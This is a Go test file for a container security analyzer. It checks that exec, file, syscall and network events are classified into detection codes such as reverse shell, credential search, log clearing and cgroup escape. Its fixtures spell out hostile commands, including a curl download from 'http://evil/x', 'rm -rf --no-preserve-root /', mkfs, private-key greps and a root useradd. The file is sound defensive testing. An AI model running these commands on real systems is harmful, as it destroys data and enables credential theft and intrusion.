package analyzer

import (
	"slices"
	"sort"
	"strings"
	"testing"

	"github.com/containsec/contain/schemas/containv1"
)

func codesOf(hits []hit) []string {
	var out []string
	for _, h := range hits {
		if !slices.Contains(out, h.code) {
			out = append(out, h.code)
		}
	}
	sort.Strings(out)
	return out
}

func wantCodes(t *testing.T, name string, got []hit, want ...string) {
	t.Helper()
	sort.Strings(want)
	if g := codesOf(got); !slices.Equal(g, want) {
		t.Errorf("%s: codes %v, want %v", name, g, want)
	}
	for _, h := range got {
		if h.msg == "" || h.subject == "" || h.key == "" {
			t.Errorf("%s: %s lacks a message, subject or key: %+v", name, h.code, h)
		}
		if _, ok := classes[h.code]; !ok {
			t.Errorf("%s: code %s is not in the class table", name, h.code)
		}
	}
}

func TestClassifyExec(t *testing.T) {
	type tc struct {
		name   string
		x      *containv1.Exec
		in     execInfo
		expect []string
	}
	proc := func(uid, euid uint32) *containv1.Process {
		return &containv1.Process{Pid: 5, Tgid: 5, Uid: uid, Euid: euid}
	}
	ex := func(fn string, argv ...string) *containv1.Exec {
		if len(argv) == 0 {
			argv = []string{fn}
		}
		return &containv1.Exec{Filename: fn, Argv: argv, Proc: proc(0, 0)}
	}
	in := func(name, parent string) execInfo { return execInfo{name: name, parent: parent} }
	cases := []tc{
		{"shell by a service", ex("/bin/sh", "sh", "-c", "id"), in("/bin/sh", "/usr/sbin/nginx"), []string{CodeExecShell}},
		{"shell by unknown parent", ex("/bin/bash"), in("/bin/bash", ""), []string{CodeExecShell}},
		{"interpreter by a service", ex("/usr/bin/python3.11", "python3", "-c", "x"), in("/usr/bin/python3.11", "/app/server"), []string{CodeExecInterpreter}},
		{"drift (written)", ex("/app/bin/x"), execInfo{name: "/app/bin/x", parent: "/app/server", written: true}, []string{CodeExecDrift}},
		{"drift (writable layer)", &containv1.Exec{Filename: "/usr/local/bin/x", ExeWritable: true}, in("/usr/local/bin/x", "/app/server"), []string{CodeExecDrift}},
		{"exec from /tmp", ex("/tmp/x"), in("/tmp/x", "/app/server"), []string{CodeExecTmp}},
		{"exec from /dev/shm", ex("/dev/shm/.x"), in("/dev/shm/.x", "/app/server"), []string{CodeExecTmp}},
		{"exec from /run", ex("/run/x"), in("/run/x", "/app/server"), []string{CodeExecTmp}},
		{"exec from /var/tmp", ex("/var/tmp/x"), in("/var/tmp/x", "/app/server"), []string{CodeExecTmp}},
		{"memfd by flag", &containv1.Exec{Filename: "/dev/fd/3", ExeMemfd: true, Exe: "/memfd:x"}, in("/dev/fd/3", "/app/server"), []string{CodeExecFileless}},
		{"memfd by path", &containv1.Exec{Filename: "/proc/self/fd/4", Exe: "/memfd:payload (deleted)"}, in("/proc/self/fd/4", "/app/server"), []string{CodeExecFileless}},
		{"deleted binary", &containv1.Exec{Filename: "/app/x", ExeDeleted: true}, in("/app/x", "/app/server"), []string{CodeExecFileless}},
		{"package manager", ex("/usr/bin/apt-get", "apt-get", "install", "nmap"), in("/usr/bin/apt-get", "/bin/sh"), []string{CodeExecPkgManager}},
		{"pip", ex("/usr/local/bin/pip", "pip", "install", "x"), in("/usr/local/bin/pip", "/bin/sh"), []string{CodeExecPkgManager}},
		{"remote copy", ex("/usr/bin/curl", "curl", "-o", "/tmp/x", "http://evil/x"), in("/usr/bin/curl", "/bin/sh"), []string{CodeExecTool}},
		{"scanner", ex("/usr/bin/nmap", "nmap", "-sS", "10.0.0.0/24"), in("/usr/bin/nmap", "/bin/sh"), []string{CodeExecScanner}},
		{"reverse shell", &containv1.Exec{Filename: "/bin/sh", Argv: []string{"sh"}, StdioInet: true}, in("/bin/sh", "/bin/nc"), []string{CodeExecShell, CodeReverseShell}},
		{"program on a socket", &containv1.Exec{Filename: "/bin/id", StdioInet: true}, in("/bin/id", "/bin/sh"), []string{CodeReverseShell}},
		{"busybox awk", ex("/bin/busybox", "busybox", "awk", "BEGIN{}"), in("/bin/busybox", "/bin/sh"), []string{CodeExecInterpreter}},
		{"busybox sh by a service", ex("/bin/busybox", "busybox", "sh", "-c", "id"), in("/bin/busybox", "/app/server"), []string{CodeExecShell}},
		{"busybox wget", ex("/bin/busybox", "busybox", "wget", "http://x/y"), in("/bin/busybox", "/bin/sh"), []string{CodeExecTool}},
		{"shred", ex("/usr/bin/shred", "shred", "-u", "/data/db"), in("/usr/bin/shred", "/bin/sh"), []string{CodeBulkDelete}},
		{"rm -rf /", ex("/bin/rm", "rm", "-rf", "--no-preserve-root", "/"), in("/bin/rm", "/bin/sh"), []string{CodeBulkDelete}},
		{"rm -rf /data/*", ex("/bin/rm", "rm", "-rf", "/var/lib/app/*"), in("/bin/rm", "/bin/sh"), []string{CodeBulkDelete}},
		{"rm -r /etc", ex("/bin/rm", "rm", "-r", "/etc"), in("/bin/rm", "/bin/sh"), []string{CodeBulkDelete}},
		{"mkfs", ex("/sbin/mkfs.ext4", "mkfs.ext4", "/dev/sda1"), in("/sbin/mkfs.ext4", "/bin/sh"), []string{CodeBulkDelete}},
		{"debugfs", ex("/sbin/debugfs", "debugfs", "/dev/sda1"), in("/sbin/debugfs", "/bin/sh"), []string{CodeMount}},
		{"grep aws keys", ex("/bin/grep", "grep", "-r", "aws_access_key_id", "/"), in("/bin/grep", "/bin/sh"), []string{CodeCredSearch}},
		{"base64 -d", ex("/bin/base64", "base64", "-d"), in("/bin/base64", "/bin/sh"), []string{CodeExecDecode}},
		{"openssl base64 -d", ex("/usr/bin/openssl", "openssl", "base64", "-d", "-in", "x"), in("/usr/bin/openssl", "/bin/sh"), []string{CodeExecDecode}},
		{"xxd -r", ex("/usr/bin/xxd", "xxd", "-r", "-p"), in("/usr/bin/xxd", "/bin/sh"), []string{CodeExecDecode}},
		{"nc -z scan", ex("/bin/nc", "nc", "-z", "10.0.0.1", "1-1024"), in("/bin/nc", "/bin/sh"), []string{CodeExecScanner}},
		{"miner by name", ex("/tmp/xmrig"), in("/tmp/xmrig", "/bin/sh"), []string{CodeExecMiner, CodeExecTmp}},
		{"miner by argv", ex("/app/worker", "worker", "-o", "stratum+tcp://pool:3333"), in("/app/worker", "/bin/sh"), []string{CodeExecMiner}},
		{"useradd", ex("/usr/sbin/useradd", "useradd", "-o", "-u", "0", "x"), in("/usr/sbin/useradd", "/bin/sh"), []string{CodeAccountChange}},
		{"chpasswd", ex("/usr/sbin/chpasswd"), in("/usr/sbin/chpasswd", "/bin/sh"), []string{CodeAccountChange}},
		{"crontab install", ex("/usr/bin/crontab", "crontab", "/tmp/c"), in("/usr/bin/crontab", "/bin/sh"), []string{CodeCronPersist}},
		{"key search", ex("/bin/grep", "grep", "-r", "BEGIN RSA PRIVATE KEY", "/"), in("/bin/grep", "/bin/sh"), []string{CodeCredSearch}},
		{"find id_rsa", ex("/usr/bin/find", "find", "/", "-name", "id_rsa"), in("/usr/bin/find", "/bin/sh"), []string{CodeCredSearch}},
		{"find *.pem", ex("/usr/bin/find", "find", "/", "-name", "*.pem"), in("/usr/bin/find", "/bin/sh"), []string{CodeCredSearch}},
		{"grep password", ex("/bin/egrep", "egrep", "-ri", "password", "/var/www"), in("/bin/egrep", "/bin/sh"), []string{CodeCredSearch}},
		{"setuid-root binary", &containv1.Exec{Filename: "/usr/bin/exploit", Proc: proc(1000, 0)}, in("/usr/bin/exploit", "/bin/sh"), []string{CodePrivilegeGain}},
		{"login shell of a system user", &containv1.Exec{Filename: "/bin/bash", Argv: []string{"-bash"}, Proc: proc(33, 33)}, in("/bin/bash", "/bin/sh"), []string{CodeLoginShell}},
		{"login shell -l", &containv1.Exec{Filename: "/bin/sh", Argv: []string{"sh", "-l"}, Proc: proc(999, 999)}, in("/bin/sh", "/usr/sbin/sshd"), []string{CodeExecShell, CodeLoginShell}},
		{"root login shell in a non-root image", &containv1.Exec{Filename: "/bin/sh", Argv: []string{"-sh"}, Proc: proc(0, 0)},
			execInfo{name: "/bin/sh", parent: "/bin/sh", nonRootImage: true}, []string{CodeLoginShell}},

		// Benign look-alikes.
		{"service binary", ex("/usr/sbin/nginx", "nginx", "-g", "daemon off;"), in("/usr/sbin/nginx", ""), nil},
		{"shell from shell", ex("/bin/sh", "sh", "-c", "x"), in("/bin/sh", "/bin/bash"), nil},
		{"interpreter from interpreter", ex("/usr/bin/python3", "python3", "x.py"), in("/usr/bin/python3", "/usr/bin/python3.11"), nil},
		{"pythonic name", ex("/app/pythonista"), in("/app/pythonista", "/bin/sh"), nil},
		{"tmp in the middle", ex("/opt/tmp/bin/x"), in("/opt/tmp/bin/x", "/bin/sh"), nil},
		{"grep in logs", ex("/bin/grep", "grep", "ERROR", "/var/log/app.log"), in("/bin/grep", "/bin/sh"), nil},
		{"grep the passwd file", ex("/bin/grep", "grep", "root", "/etc/passwd"), in("/bin/grep", "/bin/sh"), nil},
		{"busybox sh by a shell", ex("/bin/busybox", "busybox", "sh", "-c", "id"), in("/bin/busybox", "/bin/sh"), nil},
		{"rm -rf a tmp dir", ex("/bin/rm", "rm", "-rf", "/tmp/build"), in("/bin/rm", "/bin/sh"), nil},
		{"rm -rf a deep dir", ex("/bin/rm", "rm", "-rf", "/var/cache/app/x"), in("/bin/rm", "/bin/sh"), nil},
		{"rm a file", ex("/bin/rm", "rm", "-f", "/data"), in("/bin/rm", "/bin/sh"), nil},
		{"base64 encode", ex("/bin/base64", "base64", "/data/x"), in("/bin/base64", "/bin/sh"), nil},
		{"crontab -l", ex("/usr/bin/crontab", "crontab", "-l"), in("/usr/bin/crontab", "/bin/sh"), nil},
		{"root login shell in a root image", &containv1.Exec{Filename: "/bin/sh", Argv: []string{"-sh"}, Proc: proc(0, 0)}, in("/bin/sh", "/bin/sh"), nil},
		{"shell -c by a user", &containv1.Exec{Filename: "/bin/sh", Argv: []string{"sh", "-c", "x"}, Proc: proc(33, 33)}, in("/bin/sh", "/bin/sh"), nil},
		{"sudo-less root", &containv1.Exec{Filename: "/bin/ls", Proc: proc(0, 0)}, in("/bin/ls", "/bin/sh"), nil},
	}
	for _, c := range cases {
		wantCodes(t, c.name, classifyExec(c.x, c.in), c.expect...)
	}
}

func TestClassifyFile(t *testing.T) {
	type tc struct {
		name   string
		f      *containv1.File
		expect []string
	}
	op := func(o containv1.File_Op, p string) *containv1.File { return &containv1.File{Op: o, Path: p} }
	with := func(f *containv1.File, fn func(*containv1.File)) *containv1.File { fn(f); return f }
	const (
		read   = containv1.File_OP_OPEN_READ
		write  = containv1.File_OP_OPEN_WRITE
		create = containv1.File_OP_CREATE
		unlink = containv1.File_OP_UNLINK
		chmod  = containv1.File_OP_CHMOD
		mknod  = containv1.File_OP_MKNOD
		mkdir  = containv1.File_OP_MKDIR
		trunc  = containv1.File_OP_TRUNCATE
		rename = containv1.File_OP_RENAME
		slink  = containv1.File_OP_SYMLINK
	)
	cases := []tc{
		{"shadow", op(read, "/etc/shadow"), []string{CodeReadSensitive}},
		{"shadow through a symlink", with(op(read, "/tmp/s"), func(f *containv1.File) { f.ResolvedPath = "/etc/shadow" }), []string{CodeReadSensitive}},
		{"hardlink flagged by inode", with(op(read, "/tmp/h"), func(f *containv1.File) { f.Sensitive = true }), []string{CodeReadSensitive}},
		{"ssh key", op(read, "/home/app/.ssh/id_ed25519"), []string{CodeReadSensitive}},
		{"ssh config", op(read, "/root/.ssh/config"), []string{CodeReadSensitive}},
		{"aws credentials", op(read, "/home/app/.aws/credentials"), []string{CodeReadSensitive}},
		{"gcloud", op(read, "/root/.config/gcloud/credentials.db"), []string{CodeReadSensitive}},
		{"kube config", op(read, "/root/.kube/config"), []string{CodeReadSensitive}},
		{"docker config", op(read, "/root/.docker/config.json"), []string{CodeReadSensitive}},
		{"private key", op(read, "/app/certs/server.key"), []string{CodeReadSensitive}},
		{"pem", op(read, "/srv/tls/key.pem"), []string{CodeReadSensitive}},
		{"environ", op(read, "/proc/1/environ"), []string{CodeReadSensitive}},
		{"mknod /dev", with(op(mknod, "/dev/sda9"), func(f *containv1.File) { f.Mode = sIFBLK | 0o600 }), []string{CodeDevCreate}},
		{"mknod char elsewhere", with(op(mknod, "/tmp/mem"), func(f *containv1.File) { f.Mode = sIFCHR | 0o600 }), []string{CodeDevCreate}},
		{"create in /dev", op(create, "/dev/.x"), []string{CodeDevCreate}},
		{"hidden in /usr/lib", op(create, "/usr/lib/.cache/x"), []string{CodeHiddenFile}},
		{"hidden dir in /etc", op(mkdir, "/etc/.d"), []string{CodeHiddenFile}},
		{"hidden in /var", op(create, "/var/.x"), []string{CodeHiddenFile}},
		{"write /etc", op(write, "/etc/hosts.allow"), nil}, // system write is the engine's (not a behaviour pattern)
		{"authorized_keys", op(create, "/root/.ssh/authorized_keys"), []string{CodeSSHPersist}},
		{"authorized_keys rename", &containv1.File{Op: rename, Path: "/tmp/k", NewPath: "/home/u/.ssh/authorized_keys"}, []string{CodeSSHPersist}},
		{"sshd_config", op(write, "/etc/ssh/sshd_config"), []string{CodeSSHPersist}},
		{".bashrc", op(write, "/root/.bashrc"), []string{CodeShellConfig}},
		{"profile.d", op(create, "/etc/profile.d/x.sh"), []string{CodeShellConfig}},
		{".profile deleted", op(unlink, "/home/u/.profile"), []string{CodeShellConfig}},
		{"ld.so.preload", op(create, "/etc/ld.so.preload"), []string{CodeShellConfig}},
		{"history deleted", op(unlink, "/root/.bash_history"), []string{CodeLogClear}},
		{"history truncated", with(op(write, "/root/.bash_history"), func(f *containv1.File) { f.Flags = oTrunc }), []string{CodeLogClear}},
		{"history to /dev/null", &containv1.File{Op: slink, Path: "/dev/null", NewPath: "/root/.bash_history"}, []string{CodeLogClear}},
		{"history moved", &containv1.File{Op: rename, Path: "/root/.bash_history", NewPath: "/tmp/h"}, []string{CodeLogClear}},
		{"log truncate", op(trunc, "/var/log/auth.log"), []string{CodeLogClear}},
		{"log unlink", op(unlink, "/var/log/nginx/access.log"), []string{CodeLogClear}},
		{"wtmp emptied", with(op(write, "/var/run/utmp"), func(f *containv1.File) { f.Flags = oTrunc }), []string{CodeLogClear}},
		{"cron.d", op(create, "/etc/cron.d/x"), []string{CodeCronPersist}},
		{"crontabs", op(create, "/var/spool/cron/crontabs/root"), []string{CodeCronPersist}},
		{"systemd timer", op(create, "/etc/systemd/system/x.timer"), []string{CodeCronPersist}},
		{"timer anywhere", op(create, "/usr/lib/x.timer"), []string{CodeCronPersist}},
		{"passwd", op(write, "/etc/passwd"), []string{CodeAccountChange}},
		{"shadow write", op(write, "/etc/shadow"), []string{CodeAccountChange}},
		{"group rename", &containv1.File{Op: rename, Path: "/etc/group+", NewPath: "/etc/group"}, []string{CodeAccountChange}},
		{"sudoers.d", op(create, "/etc/sudoers.d/x"), []string{CodeAccountChange}},
		{"setuid chmod", with(op(chmod, "/tmp/x"), func(f *containv1.File) { f.Mode = 0o4755 }), []string{CodeSetuidBit}},
		{"setgid create", with(op(create, "/data/x"), func(f *containv1.File) { f.Mode = 0o2755 }), []string{CodeSetuidBit}},
		{"release_agent", op(write, "/sys/fs/cgroup/rdma/release_agent"), []string{CodeCgroupEscape}},
		{"notify_on_release", op(write, "/tmp/cg/x/notify_on_release"), []string{CodeCgroupEscape}},
		{"core_pattern", op(write, "/proc/sys/kernel/core_pattern"), []string{CodeCgroupEscape}},
		{"cgroup write", op(write, "/sys/fs/cgroup/cgroup.procs"), []string{CodeCgroupEscape}},
		{"docker.sock", op(containv1.File_OP_CONNECT, "/var/run/docker.sock"), []string{CodeRuntimeSocket}},
		{"containerd.sock", op(containv1.File_OP_CONNECT, "/run/containerd/containerd.sock"), []string{CodeRuntimeSocket}},
		{"ip_forward", op(write, "/proc/sys/net/ipv4/ip_forward"), []string{CodeKernelTunable}},
		{"sysctl by create", op(create, "/proc/sys/kernel/domainname"), []string{CodeKernelTunable}},
		{"sysfs write", op(write, "/sys/kernel/mm/ksm/run"), []string{CodeKernelTunable}},
		{"proc mem write", op(write, "/proc/1/mem"), []string{CodeProcMemory}},
		{"symlink to shadow", &containv1.File{Op: slink, Path: "/etc/shadow", NewPath: "/data/s"}, []string{CodeSensitiveLink}},
		{"relative symlink to shadow", &containv1.File{Op: slink, Path: "../etc/./shadow", NewPath: "/data/s"}, []string{CodeSensitiveLink}},
		{"hardlink of shadow", &containv1.File{Op: containv1.File_OP_LINK, Path: "/etc/../etc/shadow", NewPath: "/tmp/h"}, []string{CodeSensitiveLink}},
		{"hardlink of a key", &containv1.File{Op: containv1.File_OP_LINK, Path: "/root/.ssh/id_rsa", NewPath: "/tmp/k"}, []string{CodeSensitiveLink}},
		{"link flagged by inode", &containv1.File{Op: containv1.File_OP_LINK, Path: "/data/x", NewPath: "/tmp/k", Sensitive: true}, []string{CodeSensitiveLink}},

		// Benign look-alikes.
		{"passwd read", op(read, "/etc/passwd"), nil},
		{"CA bundle", op(read, "/etc/ssl/certs/ca.pem"), nil},
		{"app config read", op(read, "/app/config.yaml"), nil},
		{"write /dev/null", op(write, "/dev/null"), nil},
		{"> /dev/null", op(create, "/dev/null"), nil},
		{"termination log", op(create, "/dev/termination-log"), nil},
		{"> /dev/stderr", op(create, "/dev/stderr"), nil},
		{"shm create", op(create, "/dev/shm/sem.x"), nil},
		{"pty", op(write, "/dev/pts/0"), nil},
		{"history append", with(op(write, "/root/.bash_history"), func(f *containv1.File) { f.Flags = 0o2001 }), nil},
		{"log append", with(op(write, "/var/log/app.log"), func(f *containv1.File) { f.Flags = 0o2001 }), nil},
		{"log create", op(create, "/var/log/app.log"), nil},
		{"log emptied by >", with(op(create, "/var/log/auth.log"), func(f *containv1.File) { f.Flags = 0o1101 }), []string{CodeLogClear}},
		{"hidden in the app dir", op(create, "/app/.cache/x"), nil},
		{"hidden in /tmp", op(create, "/tmp/.X11-unix/X0"), nil},
		{"chmod 755", with(op(chmod, "/data/x"), func(f *containv1.File) { f.Mode = 0o755 }), nil},
		{"proc write", op(write, "/proc/self/oom_score_adj"), nil},
		{"syslog socket", op(containv1.File_OP_CONNECT, "/dev/log"), nil},
		{"app socket", op(containv1.File_OP_CONNECT, "/run/app/app.sock"), nil},
		{"proc attr write", op(write, "/proc/self/attr/current"), nil},
		{"symlink to a config", &containv1.File{Op: slink, Path: "/etc/nginx/nginx.conf", NewPath: "/app/nginx.conf"}, nil},
		{"symlink of a cert", &containv1.File{Op: slink, Path: "/etc/ssl/certs/ca.pem", NewPath: "/app/ca.pem"}, nil},
		{"cron-ish name elsewhere", op(create, "/app/cron.d/x"), nil},
	}
	for _, c := range cases {
		wantCodes(t, c.name, classifyFile(c.f), c.expect...)
	}
}

func TestClassifySyscall(t *testing.T) {
	type tc struct {
		name   string
		s      *containv1.Syscall
		prior  uint32
		known  bool
		expect []string
	}
	sys := func(name string, args ...uint64) *containv1.Syscall {
		s := &containv1.Syscall{Name: name, Mode: containv1.Syscall_MODE_FIRST}
		if len(args) > 0 {
			s.Mode = containv1.Syscall_MODE_SENSITIVE
			s.Args = append(args, make([]uint64, 6-len(args))...)
		}
		return s
	}
	cases := []tc{
		{"ptrace attach", sys("ptrace", ptraceAttach, 42), 0, false, []string{CodePtrace}},
		{"ptrace seize", sys("ptrace", ptraceSeize, 42), 0, false, []string{CodePtrace}},
		{"ptrace traceme", sys("ptrace", ptraceTraceme), 0, false, []string{CodePtrace}},
		{"ptrace poke", sys("ptrace", 5, 42), 0, false, []string{CodePtrace}},
		{"ptrace first use", sys("ptrace"), 0, false, []string{CodePtrace}},
		{"process_vm_readv", sys("process_vm_readv"), 0, false, []string{CodeProcMemory}},
		{"process_vm_writev", sys("process_vm_writev"), 0, false, []string{CodeProcMemory}},
		{"unshare", sys("unshare", 0x04000000), 0, false, []string{CodeNamespace}},
		{"setns", sys("setns"), 0, false, []string{CodeNamespace}},
		{"mount", sys("mount"), 0, false, []string{CodeMount}},
		{"umount2", sys("umount2"), 0, false, []string{CodeMount}},
		{"pivot_root", sys("pivot_root"), 0, false, []string{CodeMount}},
		{"chroot", sys("chroot"), 0, false, []string{CodeChroot}},
		{"finit_module", sys("finit_module"), 0, false, []string{CodeKernelModule}},
		{"init_module", sys("init_module"), 0, false, []string{CodeKernelModule}},
		{"bpf", sys("bpf", 0), 0, false, []string{CodeBPF}},
		{"userfaultfd", sys("userfaultfd"), 0, false, []string{CodeUserfaultfd}},
		{"packet socket", sys("socket", afPacket, sockRaw, 0x300), 0, false, []string{CodeRawSocket}},
		{"socket dup2 onto stdout", func() *containv1.Syscall { s := sys("dup2", 3, 1); s.Ret = 1; return s }(), 0, false, []string{CodeReverseShell}},
		{"socket dup3 onto stdin", sys("dup3", 3, 0, 0), 0, false, []string{CodeReverseShell}},
		{"dup2 first use", sys("dup2"), 0, false, nil},
		{"dup2 failed", func() *containv1.Syscall { s := sys("dup2", 3, 1); s.Ret = -9; return s }(), 0, false, nil},
		{"raw inet socket", sys("socket", 2, sockRaw|0x80000, 1), 0, false, []string{CodeRawSocket}},
		{"setuid 0 from 1000", sys("setuid", 0), 1000, true, []string{CodePrivilegeGain}},
		{"setresuid 0 from nobody", sys("setresuid", 0, 0, 0), 65534, true, []string{CodePrivilegeGain}},
		{"setreuid -1,0 from 33", sys("setreuid", noID, 0), 33, true, []string{CodePrivilegeGain}},
		{"setuid 0 attempt, prior unknown", &containv1.Syscall{Name: "setuid", Mode: containv1.Syscall_MODE_SENSITIVE, Args: make([]uint64, 6), Ret: -1,
			Proc: &containv1.Process{Uid: 1000, Euid: 1000}}, 0, false, []string{CodePrivilegeGain}},
		{"capset", sys("capset"), 0, false, []string{CodePrivilegeGain}},

		// Benign look-alikes.
		{"tcp socket", sys("socket", 2, 1, 0), 0, false, nil},
		{"unix socket", sys("socket", 1, 1|0x80000, 0), 0, false, nil},
		{"socket first use", sys("socket"), 0, false, nil},
		{"ptrace getregs", sys("ptrace", 12, 42), 0, false, nil},
		{"setuid drop", sys("setuid", 1000), 0, true, nil},
		{"setresuid -1 from root", sys("setresuid", noID, noID, noID), 0, true, nil},
		{"setuid 0 from root", sys("setuid", 0), 0, true, nil},
		{"read", sys("read"), 0, false, nil},
		{"perf_event_open", sys("perf_event_open"), 0, false, nil},
	}
	for _, c := range cases {
		wantCodes(t, c.name, classifySyscall(c.s, c.prior, c.known), c.expect...)
	}
}

func TestClassifyNetwork(t *testing.T) {
	for _, port := range []uint32{3333, 4444, 5555, 7777, 14444, 45700} {
		wantCodes(t, "mining port", classifyNetwork(&containv1.Network{Op: containv1.Network_OP_CONNECT, RemotePort: port}), CodeMinerPort)
	}
	for _, port := range []uint32{2375, 2376, 2379, 6443, 10250, 10255} {
		wantCodes(t, "control API", classifyNetwork(&containv1.Network{Op: containv1.Network_OP_CONNECT, RemotePort: port}), CodeRuntimeSocket)
	}
	wantCodes(t, "https", classifyNetwork(&containv1.Network{Op: containv1.Network_OP_CONNECT, RemotePort: 443}))
	wantCodes(t, "listen 3333", classifyNetwork(&containv1.Network{Op: containv1.Network_OP_LISTEN, LocalPort: 3333}))
}

// TestClassTable: every code has a rule and a score in [0,1]; every
// behaviour code carries ATT&CK techniques.
func TestClassTable(t *testing.T) {
	for _, c := range Classes() {
		if c.Rule == "" || c.Score < 0 || c.Score > 1 {
			t.Errorf("%s: rule %q score %v", c.Code, c.Rule, c.Score)
		}
		for _, m := range c.Mitre {
			if !strings.HasPrefix(m, "T1") {
				t.Errorf("%s: ATT&CK id %q", c.Code, m)
			}
		}
	}
	for _, code := range []string{CodeExecDrift, CodeExecFileless, CodeExecTmp, CodeExecShell, CodeExecInterpreter, CodeExecUnseen,
		CodeWriteSystem, CodeWriteUndeclared, CodeReadSensitive, CodeNamespace, CodeMount, CodeChroot, CodePtrace,
		CodeKernelModule, CodeBPF, CodePrivilegeGain} {
		if s := classes[code].severity; s < 0.8 {
			t.Errorf("%s defaults to %v, below the responder's default threshold 0.8", code, s)
		}
	}
	if s := classes[CodeExecSession].severity; s >= 0.5 {
		t.Errorf("exec.session %v, want below 0.5", s)
	}
}

func TestParseClassScores(t *testing.T) {
	got, err := parseClassScores([]string{"exec.pkg_manager=0.85", " net.raw_socket = 1 "})
	if err != nil || got[CodeExecPkgManager] != 0.85 || got[CodeRawSocket] != 1 {
		t.Fatalf("%v %v", got, err)
	}
	for entry, key := range map[string]string{
		"exec.nope=0.5":         "analyzer.class_scores.exec.nope",
		"exec.shell=1.5":        "analyzer.class_scores.exec.shell",
		"exec.shell=-0.1":       "analyzer.class_scores.exec.shell",
		"exec.shell=NaN":        "analyzer.class_scores.exec.shell",
		"exec.shell":            "analyzer.class_scores",
		"incident.combined=0.5": "analyzer.class_scores.incident.combined",
	} {
		if _, err := parseClassScores([]string{entry}); err == nil || !strings.Contains(err.Error(), key) {
			t.Errorf("%q: %v, want an error naming %s", entry, err, key)
		}
	}
	cfg := DefaultConfig()
	cfg.ClassScores = []string{"exec.shell=2"}
	if err := cfg.Validate(); err == nil || !strings.Contains(err.Error(), "analyzer.class_scores.exec.shell") {
		t.Errorf("Validate: %v", err)
	}
	cfg = DefaultConfig()
	cfg.ExecSessions = "sometimes"
	if err := cfg.Validate(); err == nil || !strings.Contains(err.Error(), "analyzer.exec_sessions") {
		t.Errorf("Validate: %v", err)
	}
}
